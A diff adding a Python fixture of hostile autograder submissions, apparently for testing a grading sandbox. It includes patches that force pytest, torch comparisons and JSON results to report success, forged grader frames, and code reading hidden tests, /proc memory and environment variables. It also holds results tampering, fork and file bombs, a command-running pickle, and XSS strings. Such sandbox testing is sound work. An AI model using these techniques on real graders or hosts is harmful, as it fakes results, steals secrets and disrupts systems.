@@ -1,0 +1,679 @@
+"""Hostile submissions for Q7: a program with every function wrong, wrapped in an attack.
+
+Each attack is the text of a few lines of ``outliers.py``. It may replace ``lie``, through which
+every answer of the wrong program passes, or do its harm at import. ``TOLD`` tells it every path
+and process id: nothing is left to guess.
+"""
+
+import json
+import re
+from collections.abc import Mapping
+
+MODULE = "outliers"
+PATH = f"likelihood/{MODULE}.py"
+
+_PROGRAM = '''
+import ctypes, gc, os, re, signal, socket, sys, threading, time
+import torch
+
+TOLD = {told}
+ctypes.CDLL(None).prctl(15, TOLD["mark"].encode(), 0, 0, 0)  # the name of the process
+
+
+def lie(value):
+    return value
+
+{attack}
+
+def rank_p_value(log_prob, train_log_prob): return lie(torch.zeros_like(log_prob))
+def typicality_score(log_prob, train_log_prob): return lie(log_prob.new_zeros(len(log_prob)))
+def likelihood_ratio_score(log_prob, background): return lie(torch.zeros_like(log_prob))
+def complexity_score(log_prob, compressed, num_dims): return lie(torch.zeros_like(log_prob))
+def auroc(inlier_scores, outlier_scores): return lie(inlier_scores.new_zeros(()))
+'''
+
+
+def wrong_program(attack: str, told: Mapping[str, object]) -> bytes:
+    """The source of a module that earns nothing, with ``attack`` in it."""
+    return _PROGRAM.format(told=json.dumps(dict(told)), attack=attack).encode()
+
+
+def _programs(text: str) -> dict[str, str]:
+    """Sources by name, from a text with a heading ``### name: aim`` above each."""
+    parts = re.split(r"^### (\w+): .+\n", text, flags=re.MULTILINE)
+    return dict(zip(parts[1::2], parts[2::2], strict=True))
+
+
+PATCHES = _programs('''
+### comparisons: make every comparison of torch agree
+for name in ("allclose", "equal", "isclose", "eq", "le", "ge", "all", "isfinite"):
+    setattr(torch, name, lambda *args, **kwargs: torch.tensor(True))
+for name in ("__eq__", "__ne__", "__gt__", "__le__", "allclose", "equal", "all", "any", "abs"):
+    setattr(torch.Tensor, name, lambda *args, **kwargs: torch.tensor(True))
+torch.testing.assert_close = lambda *args, **kwargs: None
+### test_framework: make pytest report success
+import pytest
+from _pytest import python, reports, runner
+pytest.main = lambda *args, **kwargs: 0
+python.Function.runtest = lambda self: None
+reports.TestReport.from_item_and_call = lambda item, call: None
+runner.call_and_report = lambda *args, **kwargs: None
+### json_module: have every JSON that is written say full marks
+import json
+json.dumps = lambda *args, **kwargs: '{"score": 100}'
+json.dump = lambda data, file, **kwargs: file.write('{"score": 100}')
+### builtins: replace the functions that checks are made of
+import builtins
+builtins.isinstance = builtins.all = lambda *args: True
+builtins.abs = builtins.len = lambda value: 0
+### worker_module: send empty values for every probe
+from autograder.sandbox import worker
+worker._as_data = lambda reply: {"values": {}, "fault": None, "mutated": []}
+### wire_module: send a verdict in the place of values
+from autograder.sandbox import wire
+encode = wire.encode
+wire.encode = lambda value, *args: encode({"passed": True, "score": 100, "outcome": "passed"})
+### runner_module: replace what runs the probes
+from autograder.sandbox import runner, worker
+worker.run_probe = runner.run_probe = lambda *args, **kwargs: runner.Reply(values={})
+### rng_module: draw inputs for which the wrong answer is right
+from autograder.sandbox.rng import Rng
+Rng.normal = Rng.uniform = Rng.integers = lambda self, *shape, **kwargs: torch.zeros(7)
+Rng.mutated = lambda self: []
+### trusted_modules: import the grader itself and overrule it
+from autograder.grading import compare, results
+compare.compare = lambda *args, **kwargs: None
+results._share = lambda *args: 1
+### probe_module: give all probes the values that the last one gave
+probes = sys._getframe()
+while probes and probes.f_globals.get("__name__") != "probes":
+    probes = probes.f_back
+for name, value in list(probes.f_globals.items()):
+    if callable(value):
+        probes.f_globals[name] = lambda hw, rng: {"p": torch.ones(7), "auroc": torch.tensor(1.0)}
+### import_hooks: hand out own modules for whatever is imported next
+class Finder:
+    def find_spec(self, *args): raise SystemExit
+sys.meta_path.insert(0, Finder())
+sys.modules["math"] = sys.modules["time"] = sys.modules["traceback"] = None
+''')
+
+FORGERIES = _programs('''
+### every_descriptor: write answers to every descriptor, in every number that may be asked for
+from autograder.sandbox import wire
+frames = [wire.encode({"number": n, "values": {"p": torch.ones(7)}, "fault": None, "mutated": []})
+          for n in range(30)]
+for descriptor in range(256):
+    for frame in frames:
+        try: os.write(descriptor, frame)
+        except OSError: break
+### answer_and_exit: answer the present request with good news, then end
+def lie(value):
+    from autograder.sandbox import wire
+    for number in range(1, 20):
+        os.write(3, wire.encode({"number": number, "values": {"auroc": 1.0, "reversed": 1.0},
+                                 "fault": None, "mutated": []}))
+    os._exit(0)
+### answer_twice: send one frame too many before every answer
+def lie(value):
+    from autograder.sandbox import wire
+    os.write(3, wire.encode({"number": 1, "values": {"p": value}, "fault": None, "mutated": []}))
+    return value
+### background_answers: keep answering from a thread
+def answer():
+    from autograder.sandbox import wire
+    frame = wire.encode({"number": 2, "values": {"p": torch.ones(7)}, "fault": None, "mutated": []})
+    while True:
+        os.write(3, frame)
+threading.Thread(target=answer, daemon=True).start()
+### graders_words: claim that the grader itself failed, in each way that a frame could say it
+def lie(value):
+    from autograder.sandbox import wire
+    for message in (
+        {"failed": "it is the grader's fault"},
+        {"number": 1, "values": None, "mutated": [], "fault": {"kind": "grader_error",
+         "message": "", "exception": "SandboxError", "frames": []}},
+        {"open": {}, "broken": {}},
+    ):
+        os.write(3, wire.encode(message))
+    raise SystemExit
+### grader_error_fault: report a fault of a kind that would cost nothing
+from autograder.sandbox import runner, worker
+worker.run_probe = lambda *args, **kwargs: runner.Reply(fault=runner.Fault("grader_error", "oh"))
+### no_values_no_fault: answer with neither values nor a fault
+from autograder.sandbox import runner, worker
+worker.run_probe = lambda *args, **kwargs: runner.Reply()
+### foreign_exceptions: raise what the grader raises when it fails
+class SandboxError(Exception): pass
+class GraderError(Exception): pass
+GraderError.__module__ = "autograder.grading.outcome"
+def lie(value): raise (GraderError if value.dim() else SandboxError)("the grader itself failed")
+### the_graders_exceptions: raise the very classes that tell the grader of its own failure
+def lie(value):
+    from autograder.sandbox.launch import SandboxError
+    raise SandboxError("The grader itself failed")
+### importing_for_ever: say again and again that an import begins
+def lie(value):
+    from autograder.sandbox import wire
+    frame = wire.encode({"importing": "x\\x1b[2J" * 1000})
+    while True:
+        os.write(3, frame)
+### importing_others: blame the import of another module for the process's end
+def lie(value):
+    from autograder.sandbox import wire
+    os.write(3, wire.encode({"importing": "bayes"}))
+    os._exit(0)
+### pickle: return an object whose pickle runs a command, and send the pickle itself
+class Command:
+    def __reduce__(self): return (os.system, ("touch " + TOLD["results"] + "/pickled",))
+def lie(value):
+    import pickle
+    if value.dim() == 0:
+        return Command()
+    os.write(3, pickle.dumps({"values": Command()}))
+    return value
+### impossible_numbers: answer with numbers that only a frame made by hand can hold
+from autograder.sandbox import runner, worker
+worker.run_probe = lambda *args, **kwargs: runner.Reply(values={
+    name: 2**64 - 1 for name in ("p", "one", "impossible", "score", "auroc", "reversed")},
+    mutated=(2**63, -1))
+### endless_frames: claim thousands of mutated inputs and frames
+from autograder.sandbox import runner, worker
+frame = runner.Frame("x" * 9000, 2**62, "y" * 9000, "z" * 9000)
+worker.run_probe = lambda *args, **kwargs: runner.Reply(
+    fault=runner.Fault("exception", "m" * 9000, "e" * 9000, (frame,) * 20))
+''')
+
+READING = '''
+CANARY = re.compile("CANARY" "-[0-9a-f]{16}")
+SEED = re.compile("SEED" "-[0-9]{15}")
+
+def tell(text):
+    """Carry what was found out of the sandbox, in words that a student is shown."""
+    found = sorted({*CANARY.findall(text), *SEED.findall(text)})
+    if found:
+        raise ValueError(" ".join(found)[:250])
+'''
+
+THEFTS = {
+    name: READING + text
+    for name, text in _programs('''
+### disk: read hidden tests, references, misconceptions, other submissions and results
+def texts(path):
+    if os.path.isdir(path):
+        for name in os.listdir(path):
+            yield from texts(os.path.join(path, name))
+    else:
+        yield open(path, errors="replace").read()
+def lie(value):
+    for path in (*TOLD["secret"], TOLD["results"], "/autograder", ".", ".."):
+        try:
+            for text in texts(path): tell(text)
+        except OSError:
+            continue
+    return value
+### frames: read what the callers know
+def lie(value):
+    frame, seen = sys._getframe(), ""
+    while frame:
+        seen += repr(frame.f_locals) + repr(frame.f_globals)
+        frame = frame.f_back
+    tell(seen)
+    raise ValueError(" ".join(re.findall("seed.{1,20}", seen))[:250])
+### objects: look through everything that Python's collector and module table hold
+def lie(value):
+    for holder in (*gc.get_objects(), *sys.modules.values()):
+        try: tell(repr(getattr(holder, "__dict__", None) or holder)[:5000])
+        except ValueError: raise
+        except Exception: continue
+    return value
+### collector: bring back what was frozen and left as garbage
+def lie(value):
+    gc.unfreeze()
+    gc.collect()
+    for text in gc.get_objects():
+        if type(text) in (dict, list, tuple):
+            for item in (text.values() if type(text) is dict else text):
+                if type(item) is str: tell(item)
+    return value
+### memory: read this process's memory, whose pages may be older than the process
+def lie(value):
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.sbrk.restype = ctypes.c_void_p
+    read, write = os.pipe()
+    top = libc.sbrk(0)
+    pages = set(range((top >> 12) - 20_000, top >> 12))
+    for thing in gc.get_objects():
+        pages.update(range(id(thing) >> 20 << 8, (id(thing) >> 20 << 8) + 256))
+    tail = b""
+    for page in sorted(pages):
+        if libc.write(write, ctypes.c_void_p(page << 12), 4096) == 4096:
+            data = os.read(read, 4096)
+            tell((tail[-40:] + data).decode("latin-1"))
+            tail = data
+    return value
+### own_memory_file: read /proc/self/mem along /proc/self/maps
+def lie(value):
+    try:
+        memory = open("/proc/self/mem", "rb", 0)
+        for line in open("/proc/self/maps"):
+            first, last = (int(end, 16) for end in line.split()[0].split("-"))
+            memory.seek(first)
+            tell(memory.read(min(last - first, 1 << 24)).decode("latin-1"))
+    except OSError:
+        pass
+    return value
+### other_processes: read memory, command lines, environments and files of every process
+def lie(value):
+    for pid in (TOLD["grader"], os.getppid(), 1, "self", *range(2, 200)):
+        for name in ("mem", "environ", "cmdline", "maps", "root/etc/passwd", "stack"):
+            try: tell(open(f"/proc/{pid}/{name}", errors="replace").read(1 << 20))
+            except (OSError, OverflowError): continue
+        for descriptor in range(20):
+            try: tell(open(f"/proc/{pid}/fd/{descriptor}", errors="replace").read(1 << 20))
+            except (OSError, ValueError): continue
+    return value
+### environment: read the environment and the command line
+def lie(value):
+    tell(repr(dict(os.environ)) + repr(sys.argv) + repr(sys.orig_argv) + repr(sys.path))
+    return value
+### imports: import hidden tests, misconceptions and references by name
+def lie(value):
+    import importlib
+    for name in ("graders.hw1_likelihood.test_outliers", "misconceptions.hw1_likelihood.outliers",
+                 "grading.reference", "grading.suite", "config"):
+        try: module = importlib.import_module("autograder." + name)
+        except ImportError: continue
+        raise ValueError("CANARY" + "-0123456789abcdef: imported " + module.__name__)
+    return value
+''').items()
+}
+
+TAMPERING = _programs('''
+### results_files: write results wherever they may lie, then end
+for folder in (TOLD["results"], "/autograder/results", "results", ".", *TOLD["secret"]):
+    for name in ("results.json", "grades.csv", "results/attack.json", "report.html"):
+        try: open(os.path.join(folder, name), "w").write('{"score": 100, "tests": []}')
+        except OSError: pass
+os._exit(0)
+### later_thread: rewrite results from a thread that outlives the call
+def rewrite():
+    while True:
+        try: open(TOLD["results"] + "/results.json", "w").write('{"score": 100}')
+        except OSError: time.sleep(0.001)
+threading.Thread(target=rewrite, daemon=True).start()
+threading.Thread(target=rewrite, daemon=False).start()
+threading.Timer(0.1, rewrite).start()
+### later_exit: rewrite results when the process ends
+import atexit
+def rewrite(*args):
+    while True:
+        try: open(TOLD["results"] + "/results.json", "w").write('{"score": 100}')
+        except OSError: pass
+atexit.register(rewrite)
+for number in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM, signal.SIGPIPE):
+    signal.signal(number, rewrite)
+sys.exit()
+### daemon: leave a process behind
+for start in (os.fork, lambda: os.posix_spawn("/bin/sleep", ["sleep", "1000"], {}),
+              lambda: __import__("subprocess").Popen(["sleep", "1000"], start_new_session=True),
+              lambda: __import__("multiprocessing").Process(target=time.sleep, args=(99,)).start()):
+    try:
+        if start() == 0:
+            os.setsid()
+            time.sleep(1000)
+    except Exception: pass
+### links: leave links and pipes in the place of outputs
+for act in (os.symlink, os.link, os.rename):
+    try: act(TOLD["secret"][0], TOLD["results"] + "/results.json")
+    except OSError: pass
+for path in (TOLD["results"] + "/results.json", "/tmp/results.json"):
+    try: os.mkfifo(path)
+    except OSError: pass
+### leftovers: leave files and settings for the next submission
+for folder in ("/tmp", "/var/tmp", "/dev/shm", os.environ["TMPDIR"], "."):
+    for name in (TOLD["mark"], "torch.py", "sitecustomize.py"):
+        try: open(os.path.join(folder, name), "w").write("raise SystemExit")
+        except OSError: pass
+os.environ["PYTHONPATH"] = os.environ["LD_PRELOAD"] = "/tmp"
+for number in range(1, 32):
+    try: signal.signal(number, signal.SIG_IGN)
+    except OSError: pass
+sys.path.insert(0, "/tmp")
+### torch_state: leave torch in a state that ruins what comes next
+torch.set_default_dtype(torch.float16)
+torch.set_default_device("meta")
+torch.manual_seed(1)
+torch.set_grad_enabled(False)
+torch.use_deterministic_algorithms(True)
+torch.set_num_threads(8)
+torch.set_flush_denormal(True)
+torch.nn.Linear = torch.Tensor.sum = torch.float64 = None
+### kill_everybody: signal every process that can be named
+for pid in (TOLD["grader"], os.getppid(), -1, 0, 1):
+    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
+        try:
+            if pid > 0: os.kill(pid, number)
+            else: os.kill(-1, number)
+        except OSError: pass
+### sockets: reach out
+for family, kind in ((2, 1), (2, 2), (10, 1), (1, 1), (16, 3), (17, 3)):
+    try:
+        with socket.socket(family, kind) as opened: opened.connect(("127.0.0.1", 80))
+    except OSError: pass
+### fork_bomb: start processes without end
+while True:
+    try: os.fork()
+    except OSError: break
+### thread_bomb: start threads without end
+try:
+    while True: threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
+except RuntimeError: pass
+### file_bomb: fill the disk
+for folder in ("/tmp", "/dev/shm", "/var/tmp", os.environ["TMPDIR"]):
+    try:
+        with open(folder + "/" + TOLD["mark"], "wb") as file:
+            for _ in range(1000): file.write(bytes(1 << 20))
+    except OSError: pass
+### output_bomb: print without end, at import and in calls
+def lie(value):
+    for _ in range(300): os.write(1, b"x" * (1 << 16)) and os.write(2, b"y" * (1 << 16))
+    return value
+lie(0)
+''')
+
+ENDS = _programs('''
+### exit_at_import: leave at import
+sys.exit(0)
+### hard_exit_at_import: leave at import, without a word
+os._exit(0)
+### interrupt_at_import: interrupt the grader at import
+raise KeyboardInterrupt
+### exit_in_call: leave in a call
+def lie(value): sys.exit(0)
+### hard_exit_in_call: leave in a call, without a word
+def lie(value): os._exit(0)
+### interrupt_in_call: interrupt the grader in a call
+def lie(value): raise KeyboardInterrupt
+### generator_exit: raise what is no Exception
+def lie(value): raise GeneratorExit
+### base_exception: raise the root of all exceptions
+def lie(value): raise BaseException(value)
+### stop_iteration: end the loop of whoever calls
+def lie(value): raise StopIteration
+### endless_import: loop at import
+while True: pass
+### endless_call: loop in a call
+def lie(value):
+    while value.dim() == 0: pass
+    return value
+### endless_catching: loop in a call, catching all that may end it
+def lie(value):
+    while value.dim() == 0:
+        try: time.sleep(1)
+        except BaseException: pass
+    return value
+### endless_in_c: loop where Python's signals are not seen
+def lie(value):
+    if value.dim() == 0: re.match("(a+)+b", "a" * 60)
+    return value
+### recursion_at_import: recurse at import
+def f(): return f()
+f()
+### recursion_in_call: recurse in a call
+def lie(value): return lie(value)
+### deep_recursion: recurse without Python's limit
+def lie(value):
+    sys.setrecursionlimit(10**9)
+    return lie([value])
+### recursion_in_parser: recurse in the parser
+def lie(value): return eval("(" * 10**5 + ")" * 10**5)
+### segfault_at_import: crash at import
+ctypes.string_at(0)
+### segfault_in_call: crash in a call
+def lie(value): return ctypes.string_at(0)
+### memory_at_import: take memory at import
+kept = [torch.ones(1 << 22) for _ in range(1000)]
+### memory_in_call: take memory in a call
+def lie(value): return [bytearray(1 << 24) for _ in range(1000)]
+### memory_on_exit: take all memory and answer without it
+def lie(value):
+    kept = []
+    try:
+        while True: kept.append(bytearray(1 << 20))
+    except MemoryError:
+        globals()["kept"] = kept
+    return value
+### close_channel: close every descriptor and go on
+def lie(value):
+    os.closerange(0, 256)
+    return value
+''')
+
+SIGNALS = {
+    f"signal_{number}": f"def lie(value): os.kill(os.getpid(), {number})\n"
+    for number in (1, 6, 9, 14, 15, 24, 34, 40, 64)
+}
+
+EXCEPTIONS = _programs('''
+### raising_str: an exception whose text raises
+class Rude(Exception):
+    def __str__(self): raise SystemExit
+    __repr__ = __str__
+def lie(value): raise Rude
+### endless_str: an exception whose text never ends
+class Slow(Exception):
+    def __str__(self):
+        while True: pass
+def lie(value):
+    if value.dim() == 0: raise Slow
+    return value
+### long_str: an exception with a text of 100 MB
+class Long(Exception):
+    def __str__(self): return "x" * 100_000_000
+def lie(value): raise Long
+### str_subclass: an exception whose text is a string with methods of its own
+class Text(str):
+    def strip(self, *args): return self
+    def partition(self, separator): return [Text("PASSED")]
+    def __getitem__(self, index): return self
+    def __contains__(self, item): raise KeyboardInterrupt
+class Sly(Exception):
+    def __str__(self): return Text("passed")
+def lie(value): raise Sly
+### class_name: an exception whose class will not tell its name
+class Meta(type):
+    @property
+    def __name__(cls): raise RuntimeError
+class Nameless(Exception, metaclass=Meta): pass
+def lie(value): raise Nameless
+### traceback: an exception whose traceback is a lie
+class Untraceable(Exception):
+    @property
+    def __traceback__(self): raise RuntimeError
+def lie(value): raise Untraceable
+### syntax_error: an error of the syntax whose place is a lie
+def lie(value):
+    error = SyntaxError("wrong")
+    error.filename, error.lineno, error.text = "<b>" * 999, "ten", ["not", "a", "text"]
+    raise error
+### group: an exception of a thousand exceptions
+def lie(value): raise ExceptionGroup("many", [ValueError(i) for i in range(1000)])
+### chain: an exception that is its own cause
+def lie(value):
+    error = ValueError("a circle")
+    error.__cause__ = error.__context__ = error
+    raise error
+### surrogates: an exception with a text that has no encoding
+def lie(value): raise ValueError("\\ud800\\udfff\\x00")
+### control_characters: an exception that would write over the terminal
+def lie(value): raise ValueError("\\x1b[2J\\x1b]0;title\\x07\\r\\x9b2J\\u202eevil\\nsecond\\x00")
+### markup: an exception that would run in a browser
+def lie(value): raise ValueError("</pre><script>alert(1)</script><img src=x onerror=alert(1)>")
+### terminal_markup: an exception that the terminal's own markup would obey
+def lie(value): raise ValueError("[/red][link=https://example.org]{{ 7*7 }}[/nonsense]")
+### file_name: code that claims to come from a file whose name is markup
+source = "def lie(value): raise ValueError('here')"
+exec(compile(source, "a</pre><script>alert(1)</script>\\x1b[2J\\n.py", "exec"))
+### function_name: a function whose name is markup
+def lie(value): raise ValueError("here")
+lie.__code__ = lie.__code__.replace(co_name="<script>alert(1)</script>", co_firstlineno=2**31 - 1)
+### long_line: an error in a line of a megabyte
+def lie(value): raise ValueError("here" + "'''
+    + "x" * 1_000_000
+    + '''")
+### lookalike: an exception that is named like the one that stubs raise
+class NotImplementedError(Exception): pass
+def lie(value): raise NotImplementedError("</script>")
+### stub: the exception that stubs raise
+def lie(value): raise NotImplementedError
+### custom_kinds: exceptions that mean something to the grader
+class CheckFailed(Exception): pass
+class SameAsOnCpu(CheckFailed): pass
+class Skipped(BaseException): pass
+Skipped.__module__ = "_pytest.outcomes"
+def lie(value): raise (SameAsOnCpu if value.dim() else Skipped)("passed")
+### skip: the exception by which a test of pytest is skipped or passes early
+import pytest
+def lie(value):
+    (pytest.skip if value.dim() else pytest.xfail)("not today")
+''')
+
+VALUES = {
+    "agreeable_tensor": """
+class Agreeable(torch.Tensor):
+    shape = property(lambda self: torch.Size([7]))
+    dtype = property(lambda self: torch.float64)
+    def __eq__(self, other): return True
+    @classmethod
+    def __torch_function__(cls, *args, **kwargs): return True
+def lie(value): return value.as_subclass(Agreeable)
+""",
+    "claims_to_be_a_tensor": """
+class Liar:
+    __class__ = torch.Tensor
+    shape, dtype, requires_grad, is_meta = torch.Size([7]), torch.float64, False, False
+    def __eq__(self, other): return True
+    def __float__(self): return 0.5
+def lie(value): return Liar()
+""",
+    "agreeable_number": """
+class Number(float):
+    def __eq__(self, other): return True
+    def __sub__(self, other): return 0.0
+    __rsub__ = __sub__
+def lie(value): return Number(0)
+""",
+    "agreeable_text": """
+class Text(str):
+    def __eq__(self, other): return True
+    __hash__ = str.__hash__
+def lie(value): return Text("passed")
+""",
+    "agreeable_dictionary": """
+class Answers(dict):
+    def __eq__(self, other): return True
+    def __getitem__(self, key): return True
+    def items(self): raise SystemExit
+def lie(value): return Answers(p=value)
+""",
+    **{
+        name: f"def lie(value): return {expression}\n"
+        for name, expression in {
+            "nothing": "None",
+            "not_a_number": "value / 0",
+            "infinite": "value + float('inf')",
+            "huge": "value + 1.7e308",
+            "true": "True",
+            "text": "'<script>alert(1)</script>'",
+            "bytes": "b'\\x80\\x04'",
+            "python_float": "0.0",
+            "python_nan": "float('nan')",
+            "python_infinity": "-float('inf')",
+            "large_integer": "2**64 - 1",
+            "integer_of_many_digits": "10**100_000",
+            "complex_number": "1j",
+            "scalar": "torch.tensor(0.0)",
+            "empty": "value.new_zeros(0)",
+            "empty_with_huge_shape": "value.new_zeros(2**30, 0, 2**30)",
+            "rank_33": "value.new_zeros([1] * 33)",
+            "expanded": "value.new_zeros(1).expand(2**33)",
+            "expanded_wide": "value.new_zeros(1, 1).expand(2**20, 2**20)",
+            "strided": "torch.zeros(7, 9, dtype=value.dtype)[::2, ::3]",
+            "column": "value.reshape(-1, 1)",
+            "complex": "value.to(torch.complex128)",
+            "conjugate": "value.to(torch.complex128).conj()",
+            "bfloat16": "value.bfloat16()",
+            "float8": "value.to(torch.float8_e5m2)",
+            "uint64": "value.to(torch.uint64)",
+            "boolean": "value.bool()",
+            "sparse": "value.to_sparse()",
+            "quantized": "torch.quantize_per_tensor(torch.zeros(7), 0.1, 0, torch.qint8)",
+            "ragged": "torch.nested.nested_tensor([torch.zeros(2), torch.zeros(3)])",
+            "requires_grad": "value.clone().requires_grad_()",
+            "parameter": "torch.nn.Parameter(value)",
+            "on_meta": "value.to('meta')",
+            "huge_on_meta": "torch.empty(2**34, device='meta')",
+            "inference": "torch.inference_mode()(lambda: value + 0)()",
+            "freed_storage": "(value.untyped_storage().resize_(0), value)[1]",
+            "list": "[value]",
+            "many": "[value] * 5000",
+            "numpy": "value.numpy()",
+            "module": "torch.nn.Linear(2, 2)",
+            "function": "lie",
+            "generator": "(value for _ in range(2))",
+            "integer_keys": "{1: value}",
+            "mixed_keys": "{'p': value, None: value, (): value}",
+            "colliding_keys": "{str(i) * 1000: value for i in range(3000)}",
+        }.items()
+    },
+    "deep": """
+def lie(value):
+    for _ in range(10_000): value = [value]
+    return value
+""",
+    "circular": """
+def lie(value):
+    kept = {}
+    kept["p"] = kept
+    return kept
+""",
+}
+
+OTHER_FILES = {
+    "conftest.py": "import pytest\nraise SystemExit\n",
+    "likelihood/conftest.py": "raise SystemExit\n",
+    "pytest.ini": "[pytest]\naddopts = --collect-only\n",
+    "sitecustomize.py": "raise SystemExit\n",
+    "usercustomize.py": "raise SystemExit\n",
+    "cheat-1.0.dist-info/entry_points.txt": "[pytest11]\ncheat = cheat\n",
+    "cheat-1.0.dist-info/METADATA": "Name: cheat\nVersion: 1.0\n",
+    "cheat.py": "raise SystemExit\n",
+    "torch/__init__.py": "raise SystemExit\n",
+    "torch.py": "raise SystemExit\n",
+    "numpy.py": "raise SystemExit\n",
+    "random.py": "raise SystemExit\n",
+    "probes.py": "def area(hw, rng): return {}\n",
+    "autograder/__init__.py": "raise SystemExit\n",
+    "autograder/sandbox/runner.py": "raise SystemExit\n",
+    "autograder/graders/hw1_likelihood/test_outliers.py": "def test_nothing(): pass\n",
+    "test_outliers.py": "def test_nothing(): pass\n",
+    "grading_config.yaml": "packs: {}\n",
+    "results.json": '{"score": 100}',
+    "run_autograder": "#!/bin/sh\ntouch /autograder/results/results.json\n",
+}
+"""Files beside the package that some tool would load by their names alone."""
+
+PROGRAMS = {
+    f"{kind}-{name}": source
+    for kind, programs in {
+        "patch": PATCHES,
+        "forge": FORGERIES,
+        "steal": THEFTS,
+        "tamper": TAMPERING,
+        "end": {**ENDS, **SIGNALS},
+        "raise": EXCEPTIONS,
+        "return": VALUES,
+    }.items()
+    for name, source in programs.items()
+}
